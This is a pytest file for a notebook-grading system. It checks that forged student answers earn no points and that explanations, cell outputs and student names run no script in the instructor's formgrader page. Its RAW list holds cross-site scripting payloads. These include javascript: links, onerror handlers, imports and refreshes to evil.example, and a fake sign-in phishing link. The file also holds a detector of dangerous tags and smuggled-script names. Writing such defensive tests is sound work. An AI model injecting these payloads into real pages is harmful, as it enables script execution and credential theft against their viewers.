"""What a grader has to fear: forged results, lying objects, text that runs where it is read."""

import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbgrader.server_extensions.formgrader as formgrader
import pytest
from answers import HALF, solution
from attacks_checks import TRICKS
from attacks_surroundings import SURROUNDINGS
from nbconvert.exporters import HTMLExporter
from small_course import NAME, build_small_course
from traitlets.config import Config

from dlcourse.grading.grade import Desk, read_master
from dlcourse.grading.harmless import harmless, harmless_name
from dlcourse.grading.releases import receive
from dlcourse.grading.submission import read_cells, rebuild
from dlcourse.term.collect import collect

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="grading a class is for Linux")


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    return build_small_course(tmp_path_factory.mktemp("attacks") / "root", ["relu"])


@pytest.fixture(scope="module")
def desk(root):
    with Desk(root, NAME) as desk:
        yield desk


def answered(root, **cells):
    notebook = read_master(root, NAME)
    for cell in notebook.cells:
        cell.source = cells.get(cell.id, cell.source)
    return notebook


def grade(desk, source):
    (line,) = desk.grade(receive(desk.master, read_cells(answered(desk.root, relu=source))))
    return line


@pytest.mark.parametrize("trick", TRICKS | SURROUNDINGS)
def test_no_trick_earns_a_point_and_the_next_right_answer_has_its_own(desk, trick):
    line = grade(desk, (TRICKS | SURROUNDINGS)[trick])
    assert line["points"] == 0.0, line
    assert line["status"] in {"wrong", "error", "missing"}
    assert grade(desk, solution("relu") + f"# after {trick}\n")["points"] == 1.0
    assert grade(desk, HALF + f"# after {trick}\n")["points"] == 0.5


# ---- what an instructor's browser is shown

RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg\nonload=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](http://evil.example/seen.png)",
    "<javascript:alert(1)>",
    "`` `<script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "\\\\(<script>alert(1)</script>\\\\)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '$\\mmlToken{mtext}[href="http://evil.example/login"]{Your session has ended: sign in}$',
    "Your session has ended: http://evil.example/login",
    "HTTPS://evil.example/login",
]


class Dangers(HTMLParser):
    """What a browser would run, fetch or follow."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        if tag in "script iframe form style meta base object embed svg math".split():
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            scheme = re.sub(r"[\s\x00]", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"{name}={value}")
            if scheme.startswith(("javascript:", "data:text", "vbscript:")):
                self.found.append(scheme)
            if tag == "a" and "evil.example" in scheme:
                self.found.append(scheme)
            if tag == "img" and scheme.startswith(("http:", "//")):
                self.found.append(scheme)

    def handle_data(self, text):
        self.found += [name for name in ("\\href{", "\\mmlToken{") if name in text]


def page(notebook):
    """The formgrader's page of an autograded notebook."""
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    folder = Path(formgrader.__file__).parent / "templates"
    config.HTMLExporter.extra_template_basedirs = [str(folder)]
    names = "assignment_id notebook_id submission_id student last_name first_name notebook_path"
    resources = {**dict.fromkeys([*names.split(), "base_url"], "x"), "index": 0, "total": 1}
    return HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)[0]


def dangers(notebook):
    return Dangers(page(notebook)).found


@pytest.fixture(scope="module")
def usual(root):
    """What the formgrader's own page runs."""
    master = read_master(root, NAME)
    return dangers(receive(master, read_cells(answered(root, explain_flat="It is flat."))))


def test_an_explanation_runs_nothing_in_the_formgrader(root, usual):
    master = read_master(root, NAME)
    for number in range(0, len(RAW), 13):
        text = "\n\n".join(["Because.", *RAW[number : number + 13]])
        notebook = answered(root, explain_flat=text)
        assert dangers(receive(master, read_cells(notebook))) == usual, text
        assert dangers(rebuild(master, read_cells(notebook))) != usual, text


def test_code_and_outputs_run_nothing_in_the_formgrader(root, usual):
    evil = "x = '</pre></div><script>alert(1)</script><img src=x onerror=alert(1)>'"
    notebook = answered(root, relu=evil, guess_corners=evil)
    notebook.cells.insert(3, nbformat.v4.new_code_cell(evil))
    notebook.cells.insert(3, nbformat.v4.new_markdown_cell(RAW[0]))
    notebook.cells.insert(3, nbformat.v4.new_raw_cell(RAW[0]))
    script = {"text/html": RAW[0], "application/javascript": "alert(1)", "image/svg+xml": RAW[3]}
    for cell in notebook.cells:
        cell.metadata["name"] = RAW[0]
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("display_data", script)]
        else:
            cell["attachments"] = {"x": {"text/html": RAW[0]}}
    received = receive(read_master(root, NAME), read_cells(notebook))
    assert dangers(received) == usual
    assert "alert(1)" in page(received)  # it is there to be read


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It is flat where $a<b$ and $c < d$.", "It is flat where $a< b$ and $c < d$."),
        ("$x \\le 1$ & so on: `w[0]` falls.\n\n- one\n- **two**", None),
        ("$$\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}$$", None),
        ("A -> B, A <- B, 3 < 4, <3", None),
    ],
)
def test_an_honest_explanation_reads_as_it_was_written(text, shown):
    assert harmless(text) == (shown or text)


@pytest.mark.parametrize("text", RAW)
def test_making_harmless_twice_is_the_same_as_once(text):
    assert harmless(harmless(text)) == harmless(text) != text


def test_a_students_name_is_no_part_of_a_page_or_a_script(root, tmp_path):
    hostile = ["<img src=x onerror=alert(1)>", 'x";alert(1);"', "a&b", "tab\there", "back\\slash"]
    for name in [*hostile, "o'neil sean", "gödel+kurt", "李"]:
        folder = tmp_path / name
        folder.mkdir()
        nbformat.write(answered(root), folder / "x.ipynb")
    found = sorted(one.student for one in collect(root, NAME, tmp_path))
    expected = ["_img src=x onerror=alert(1)_", "x_;alert(1);_", "a_b", "tab_here", "back_slash"]
    assert found == sorted([*expected, "o'neil sean", "gödel+kurt", "李"])
    assert harmless_name("\x00\x1f\x7f`\u202e") == "_____"
    assert harmless_name("caf\udce9") == "caf_udce9"
